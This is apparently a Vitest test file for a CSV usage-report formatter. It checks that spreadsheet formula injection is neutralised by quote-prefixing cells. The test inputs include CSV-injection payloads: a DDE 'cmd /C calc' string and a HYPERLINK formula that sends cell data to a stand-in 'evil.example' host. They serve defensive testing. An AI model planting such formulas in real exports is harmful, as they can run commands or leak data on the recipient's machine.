// CSV reports are opened in spreadsheets: text that would run as a formula must arrive as text.
import { describe, expect, it } from 'vitest';
import { formatReport, neutraliseFormula } from './report-format.js';
import type { ReportRow, UsageReport } from './usage-report.js';

function row(keys: Record<string, string | null>, costUsd = 0.5): ReportRow {
  return { keys, calls: 1, requests: 1, blocked: 0, failed: 0, inputTokens: 10, outputTokens: 2, cachedInputTokens: 0, cacheWriteInputTokens: 4, totalTokens: 12, estimatedTokens: 2, costUsd };
}

describe('CSV formula neutralisation', () => {
  it('prefixes text cells starting with = + - @ tab or CR with a quote (OWASP), and nothing else', () => {
    expect(neutraliseFormula('=HYPERLINK("http://evil","x")')).toBe(`'=HYPERLINK("http://evil","x")`);
    expect(neutraliseFormula('+cmd')).toBe(`'+cmd`);
    expect(neutraliseFormula('-2+3+cmd|\' /C calc\'!A0')).toBe(`'-2+3+cmd|' /C calc'!A0`);
    expect(neutraliseFormula('@SUM(A1:A9)')).toBe(`'@SUM(A1:A9)`);
    expect(neutraliseFormula('\t=1+1')).toBe(`'\t=1+1`);
    expect(neutraliseFormula('\r=1+1')).toBe(`'\r=1+1`);
    expect(neutraliseFormula('-')).toBe(`'-`);
    for (const plain of ['search', 'a=b', 'chat, "beta"', '', 'TOTAL', '2026-05-01', '200']) expect(neutraliseFormula(plain)).toBe(plain);
  });

  it('leaves genuine numbers alone, negative ones included', () => {
    for (const n of ['-1.5', '-3', '+7', '-.5', '-1e3', '1.5']) expect(neutraliseFormula(n)).toBe(n);
    expect(neutraliseFormula('-1.5.2')).toBe(`'-1.5.2`);
    expect(neutraliseFormula('-1+1')).toBe(`'-1+1`);
  });

  it('neutralises tag values in a CSV report, quoting them as RFC 4180 requires, and keeps the figures numeric', () => {
    const report: UsageReport = {
      sinceMs: 0,
      untilMs: 1,
      timezone: 'UTC',
      by: ['tag:feature', 'tag:delta'],
      rows: [row({ 'tag:feature': '=HYPERLINK("http://evil.example/?"&A1,"click")', 'tag:delta': '-1.5' }), row({ 'tag:feature': '@x', 'tag:delta': null }, 0.25)],
      totals: { ...row({}, 0.75), calls: 2 },
    };
    expect(formatReport(report, 'csv').split('\n')).toEqual([
      'tag:feature,tag:delta,calls,requests,blocked,failed,input_tokens,output_tokens,cached_input_tokens,cache_write_input_tokens,total_tokens,estimated_tokens,cost_usd',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-1.5,1,1,0,0,10,2,0,4,12,2,0.500000000`,
      `'@x,,1,1,0,0,10,2,0,4,12,2,0.250000000`,
      'TOTAL,,2,1,0,0,10,2,0,4,12,2,0.750000000',
      '',
    ]);
    // Tables and JSON are not spreadsheet input: values stay exactly as recorded.
    expect(formatReport(report, 'table')).toContain('=HYPERLINK(');
    expect(formatReport(report, 'table')).not.toContain(`'=HYPERLINK(`);
    expect(JSON.parse(formatReport(report, 'json')).rows[1]['tag:feature']).toBe('@x');
  });
});
